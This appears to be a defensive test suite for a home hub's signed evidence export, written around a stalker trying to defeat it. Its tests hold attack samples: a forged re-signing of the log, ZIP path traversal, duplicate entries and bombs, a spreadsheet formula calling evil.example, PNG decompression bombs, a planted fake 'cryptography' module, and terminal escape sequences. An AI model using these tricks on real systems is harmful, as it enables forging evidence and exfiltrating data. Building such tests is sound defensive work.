"""He gets her export through discovery: he guesses what was redacted, re-signs a changed copy, slips a
second file into the ZIP, plants a formula for the spreadsheet, and sends her a photo no thumbnail survives."""

from __future__ import annotations

import base64
import csv
import io
import hashlib
import json
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from datetime import datetime, timezone
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hub.chain import canonical_json, checkpoint_message, commitment, entry_hash, row_hash
from hub.config import TimestampsConfig, parse_config
from hub.device_cert import issue
from hub.events import Event, Severity
from hub.export import ExportRequest, ExportResult, build_export
from hub.keys import public_key_b64
from hub.report_signature import sign_report
from hub.store import Store
from tests.conftest import FACES

ADDRESS = "14 Elm Street, Springfield"
# What he would try: every house number on the streets near her old flat.
GUESSES = [f"{n} {street}, Springfield" for street in ("Elm Street", "Oak Road", "Mill Lane") for n in range(1, 200)]


def _export(store: Store, tmp_path: Path, redacted: bool, **detail: object) -> tuple[ExportResult, Path]:
    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
    log = store.log
    photo = log.evidence.put_bytes((FACES / "obama.jpg").read_bytes())
    seq = log.append(Event("incident.report", "owner", Severity.NOTICE, {
        "description": "His car parked across the road for an hour", "category": "surveillance",
        "location": ADDRESS, "witnesses": [{"name": "Ann", "contact": "555-0101"}],
        "attachments": [{"sha256": photo, "name": "his-car-outside-mums-house.jpg", "size": 1}], **detail},
        evidence=(photo,)))
    result = build_export(log, config, ExportRequest((seq,), redacted=redacted), tmp_path / "out")
    with zipfile.ZipFile(result.path) as archive:
        archive.extractall(tmp_path / "unzipped")
    [folder] = list((tmp_path / "unzipped").iterdir())
    return result, folder


def _verify(where: Path, *args: str) -> subprocess.CompletedProcess[str]:
    script = where / "verify.py" if where.is_dir() else where.parent / "unzipped-verify.py"
    if not where.is_dir():
        with zipfile.ZipFile(where) as archive:
            [name] = [n for n in archive.namelist() if n.endswith("/verify.py")]
            script.write_bytes(archive.read(name))
    return subprocess.run([sys.executable, str(script), *args, str(where)], capture_output=True, text=True,
                          timeout=60, env={"PATH": "/usr/bin:/bin"})


def test_a_redacted_field_cannot_be_guessed_from_the_copy(store: Store, tmp_path: Path) -> None:
    result, folder = _export(store, tmp_path, redacted=True)
    everything = b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())
    for secret in (ADDRESS.encode(), b"555-0101", b"his-car-outside-mums-house"):
        assert secret not in everything
    [line] = [json.loads(x) for x in (folder / "log" / "chain.jsonl").read_text().splitlines() if "committed" in x]
    shown = json.loads(line["committed"])
    stored = json.loads(next(r.content for r in store.log.raw_rows() if r.seq == line["seq"]))
    salt = stored["salts"]["location"]
    assert salt.encode() not in everything  # the salts stay on the hub
    # The old attack: put each guess back into the row and see which one gives the row's hash.
    for guess in GUESSES:
        trial = {**shown, "detail": {**shown["detail"], "location": guess}}
        assert entry_hash(line["prev_hash"], canonical_json(trial)) != line["hash"]
    # Against the commitment itself he has no salt; even knowing the scheme, no guess matches without it.
    target = shown["detail"]["location"]["committed"]
    assert all(commitment("", g) != target for g in GUESSES)
    assert commitment(salt, ADDRESS) == target  # ...while the hub, holding the salt, can prove the value
    # And the redacted copy still proves each row: it matches its hash in the chain.
    ok = _verify(folder, "--key", store.log.key.fingerprint)
    assert ok.returncode == 0, ok.stdout
    assert "salted commitments" in ok.stdout and "still matches its hash" in ok.stdout


def _resign(folder: Path, key: Ed25519PrivateKey) -> None:
    """What he does with the full copy: change a row, rebuild the chain and sign it all with his own key."""
    public = public_key_b64(key.public_key())
    chain = folder / "log" / "chain.jsonl"
    rows = [json.loads(x) for x in chain.read_text().splitlines()]
    prev = rows[0]["prev_hash"]
    for row in rows:
        content = json.loads(row["content"])
        if content["kind"] == "incident.report":
            content["detail"]["description"] = "She made it up"
        if content["kind"] == "log.checkpoint":
            at = content["detail"]["at"]
            content["detail"].update(head_hash=prev, public_key=public, signature=base64.b64encode(
                key.sign(checkpoint_message(row["seq"] - 1, prev, at))).decode())
        row["content"] = canonical_json(content)
        row["prev_hash"], row["hash"] = prev, row_hash(prev, row["content"])
        prev = row["hash"]
    chain.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    (folder / "device-public-key.txt").write_text(public + "\n")
    # A device certificate of his own for his key, and the report signed with it: the PDF as it was
    # before her hub's signature is its first bytes, up to the first end-of-file mark.
    his = issue(key.public_key(), "porchlight", datetime.now(timezone.utc))
    (folder / "device-certificate.pem").write_bytes(his.chain_pem)
    pdf = (folder / "report.pdf").read_bytes()
    unsigned = pdf[:pdf.index(b"%%EOF") + len(b"%%EOF")] + b"\n"
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption())
    (folder / "report.pdf").write_bytes(sign_report(unsigned, pem, his, TimestampsConfig())[0])
    names = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*")
                   if p.is_file() and p.name not in ("SHA256SUMS", "SHA256SUMS.sig"))
    sums = "".join(f"{hashlib.sha256((folder / n).read_bytes()).hexdigest()}  {n}\n" for n in names).encode()
    (folder / "SHA256SUMS").write_bytes(sums)
    (folder / "SHA256SUMS.sig").write_text(base64.b64encode(key.sign(sums)).decode() + "\n")


def test_a_re_signed_export_is_refused_with_her_fingerprint(store: Store, tmp_path: Path) -> None:
    result, folder = _export(store, tmp_path, redacted=False)
    hers = store.log.key.fingerprint
    assert _verify(folder, "--key", hers).returncode == 0
    assert _verify(folder, "--key", hers.upper().replace(":", " ")).returncode == 0  # as she may type it
    her_certificate = (folder / "device-certificate.pem").read_bytes()
    _resign(folder, Ed25519PrivateKey.generate())
    # Left with her hub's certificate, his key is caught even without --key.
    his_certificate = (folder / "device-certificate.pem").read_bytes()
    (folder / "device-certificate.pem").write_bytes(her_certificate)
    half = _verify(folder)
    assert half.returncode == 1 and "device-certificate.pem: is not the certificate of the key" in half.stdout
    (folder / "device-certificate.pem").write_bytes(his_certificate)
    alone = _verify(folder)
    assert alone.returncode == 3 and "NOT CHECKED against a known fingerprint" in alone.stdout  # why --key matters
    assert alone.stdout.splitlines()[-1].startswith("UNCONFIRMED:")
    refused = _verify(folder, "--key", hers)
    assert refused.returncode == 1
    assert "FAIL: device-public-key.txt: this export was signed by the key" in refused.stdout
    assert "not by the hub whose fingerprint you gave" in refused.stdout
    bad = _verify(folder, "--key", "not-a-fingerprint")
    assert bad.returncode == 1 and "is not a device key fingerprint" in bad.stdout


def test_she_receives_the_fingerprint_on_the_backup_sheet(store: Store, tmp_path: Path) -> None:
    from tests.conftest import run_cli

    store.log.append(Event("hub.started", "hub"))
    printed = run_cli("backup", "--data", str(store.log.data_dir), "--to", str(tmp_path / "backup"))
    assert printed.returncode == 0, printed.stderr
    assert store.log.key.fingerprint in printed.stdout


def test_a_second_copy_of_a_file_slipped_into_the_zip_is_refused(store: Store, tmp_path: Path) -> None:
    result, folder = _export(store, tmp_path, redacted=False)
    top = folder.name
    with warnings.catch_warnings(), zipfile.ZipFile(result.path, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name he means to write
        # Most unzip tools show the last copy; the first still matches SHA256SUMS.
        archive.writestr(f"{top}/log/chain.jsonl", b'{"seq": 1, "content": "forged"}\n')
        archive.writestr(f"{top}/../outside.txt", b"where does this go")
    refused = _verify(result.path)
    assert refused.returncode == 1
    assert "FAIL: log/chain.jsonl: appears twice in the ZIP" in refused.stdout
    assert "FAIL: ../outside.txt: not a name the hub writes" in refused.stdout


def test_a_formula_in_his_text_is_not_run_by_a_spreadsheet(store: Store, tmp_path: Path) -> None:
    log = store.log
    seqs = [log.append(Event("face.match", f'{sign}HYPERLINK("http://evil.example/?"&A1,"Click")',
                             Severity.CRITICAL, {"person": "him"},
                             evidence=(log.evidence.put_bytes(b"\xff\xd8\xff\xe0 photo " + sign.encode()),)))
            for sign in "=+-@"]
    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
    result = build_export(log, config, ExportRequest(tuple(seqs)), tmp_path / "out")
    with zipfile.ZipFile(result.path) as archive:
        archive.extractall(tmp_path / "unzipped")
    [folder] = list((tmp_path / "unzipped").iterdir())
    manifest = (folder / "manifest.csv").read_text()
    lines = list(csv.DictReader(io.StringIO(manifest)))
    sources = {line["source"] for line in lines}
    assert len(sources) == 4 and all(not cell[:1] in "=+-@" for line in lines for cell in line.values())
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in sources  # shown, never run


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims to be width x height: the header is all a decoder needs to be fooled."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(bytes(1000))) + \
        chunk(b"IEND", b"")


def test_a_huge_photo_does_not_stop_the_export(store: Store, tmp_path: Path) -> None:
    log = store.log
    bomb = log.evidence.put_bytes(_png_header_only(30000, 30000))
    big = log.evidence.put_bytes(_png_header_only(9000, 9000))
    seqs = [log.append(Event("incident.report", "owner", Severity.NOTICE,
                             {"description": "A photo he sent", "category": "contact"}, evidence=(sha,)))
            for sha in (bomb, big)]
    config = parse_config({"data_dir": str(store.log.data_dir), "device_name": "hall-hub"})
    result = build_export(log, config, ExportRequest(tuple(seqs)), tmp_path / "out")
    assert result.evidence_files == 2
    with zipfile.ZipFile(result.path) as archive:
        [pdf] = [n for n in archive.namelist() if n.endswith("report.pdf")]
        report = archive.read(pdf)
    assert report.startswith(b"%PDF-")
    from hub.report import thumbnail
    assert "too large to draw a thumbnail" in str(thumbnail(_png_header_only(30000, 30000)))
    assert "9000x9000 pixels is too large" in str(thumbnail(_png_header_only(9000, 9000)))
    assert isinstance(thumbnail((FACES / "obama.jpg").read_bytes()), bytes)


def test_a_huge_photo_is_refused_before_decoding_at_enrolment(tmp_path: Path) -> None:
    from hub.errors import InputRejected
    from hub.vision.faces import load_rgb

    for size in (30000, 9000):
        photo = tmp_path / f"him-{size}.png"
        photo.write_bytes(_png_header_only(size, size))
        try:
            load_rgb(photo)
        except InputRejected as err:
            assert photo.name in str(err) and "pixels" in str(err)
        else:
            raise AssertionError(f"{photo.name} was decoded")


def test_a_planted_module_cannot_take_over_the_checker(store: Store, tmp_path: Path) -> None:
    """He ships a "cryptography" folder in the export: run in the folder, Python would import it first."""
    result, folder = _export(store, tmp_path, redacted=False)
    chain = folder / "log" / "chain.jsonl"
    chain.write_text(chain.read_text().replace("His car parked", "Nobody parked"))
    fake = folder / "cryptography"
    (fake / "hazmat" / "primitives" / "asymmetric").mkdir(parents=True)
    (fake / "__init__.py").write_text("import builtins\nbuiltins.PLANTED = True\n")
    (fake / "exceptions.py").write_text("class InvalidSignature(Exception):\n    pass\n")
    for package in ("hazmat", "hazmat/primitives", "hazmat/primitives/asymmetric"):
        (fake / package / "__init__.py").write_text("")
    (fake / "hazmat" / "primitives" / "asymmetric" / "ed25519.py").write_text(
        "class Ed25519PublicKey:\n    @classmethod\n    def from_public_bytes(cls, raw):\n        return cls()\n"
        "    def verify(self, signature, message):\n        return None\n")
    # The folder's own verify.py, run in the folder as its README says, and her own copy run on it.
    own = tmp_path / "her-verify.py"
    own.write_bytes((Path(__file__).parents[2] / "hub" / "export_verify.py").read_bytes())
    for script in (folder / "verify.py", own):
        run = subprocess.run([sys.executable, str(script), "--key", store.log.key.fingerprint, str(folder)],
                             cwd=folder, capture_output=True, text=True, timeout=60, env={"PATH": "/usr/bin:/bin"})
        assert run.returncode == 1, run.stdout
        assert "FAIL: cryptography/__init__.py: not part of the export as made" in run.stdout
        assert "FAIL: log/chain.jsonl: changed since the export was made" in run.stdout


def _rezip(source: Path, target: Path, rename: dict[str, str] | None = None, before: bytes = b"",
           extra: list[tuple[zipfile.ZipInfo | str, bytes]] = ()) -> Path:  # type: ignore[assignment]
    with zipfile.ZipFile(source) as original, target.open("wb") as handle:
        handle.write(before)
        with zipfile.ZipFile(handle, "w") as copy:
            for info in original.infolist():
                name = (rename or {}).get(info.filename, info.filename)
                copy.writestr(name, original.read(info), compress_type=info.compress_type)
            for entry, data in extra:
                copy.writestr(entry, data, compress_type=zipfile.ZIP_DEFLATED)
    return target


def test_zip_tricks_against_the_checker_are_named(store: Store, tmp_path: Path) -> None:
    result, _ = _export(store, tmp_path, redacted=False)
    key = store.log.key.fingerprint
    with zipfile.ZipFile(result.path) as archive:
        names = archive.namelist()
    readme = next(n for n in names if n.endswith("/README.txt"))
    top = readme.split("/")[0]
    cases = {
        "outside the one folder": _rezip(result.path, tmp_path / "a.zip", {readme: "../README.txt"}),
        "other data comes before": _rezip(result.path, tmp_path / "b.zip", before=b"PK\x03\x04 another zip"),
        "a ZIP bomb": _rezip(result.path, tmp_path / "c.zip", extra=[(f"{top}/evidence/big.bin", bytes(30 << 20))]),
        "a folder entry that carries data": _rezip(result.path, tmp_path / "d.zip",
                                                    extra=[(f"{top}/payload.exe/", b"MZ hidden")]),
        "x\\x1b[2K": _rezip(result.path, tmp_path / "e.zip", extra=[(f"{top}/x\x1b[2K\x1b[1A", b"hides lines")]),
    }
    for expected, path in cases.items():
        run = _verify(path, "--key", key)
        assert run.returncode == 1, (expected, run.stdout)
        assert expected in run.stdout, (expected, run.stdout)
        assert "\x1b" not in run.stdout  # nothing from the ZIP can rewrite her screen
    assert _verify(result.path, "--key", key).returncode == 0
